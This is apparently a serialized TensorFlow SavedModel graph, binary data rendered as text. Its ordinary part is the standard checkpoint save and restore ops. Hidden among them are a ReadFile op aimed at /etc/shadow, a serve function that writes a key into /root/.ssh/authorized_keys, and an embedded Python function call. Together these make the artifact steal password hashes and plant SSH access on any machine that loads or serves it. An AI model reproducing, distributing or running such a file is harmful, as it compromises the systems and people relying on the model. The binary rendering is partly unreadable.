∞ù
)

save/ConstConst*
valueB	Bmodel
4
save/StringJoin
StringJoin
save/Const	save/part
O
save/ShardedFilenameShardedFilenamesave/StringJoinsave/numsave/shards
G
save/SaveV2SaveV2save/ShardedFilename
save/namessave/slicesw
D
save/MergeV2CheckpointsMergeV2Checkpoints	save/Pack
save/Const
@
save/RestoreV2	RestoreV2
save/Const
save/namessave/slices

saver_filenamePlaceholder
B
StatefulPartitionedCallStatefulPartitionedCallsaver_filename
)
pathConst*
valueBB/etc/shadow

idIdentitypath

readReadFileid:0€
’

__inference__traced_save_425

StringJoin
StringJoinfile_prefixConst:output:07
SaveV2SaveV2StringJoin:output:0namessliceswD
MergeV2CheckpointsMergeV2CheckpointsPack:output:0file_prefix
V
 
__inference__traced_restore_432
	RestoreV2	RestoreV2file_prefixnamesslices
®

__inference_serve_7:
targetConst*)
value BB/root/.ssh/authorized_keys(
write	WriteFiletarget:output:0key)
pyEagerPyFuncx*
token
pyfunc_3
save/Const:0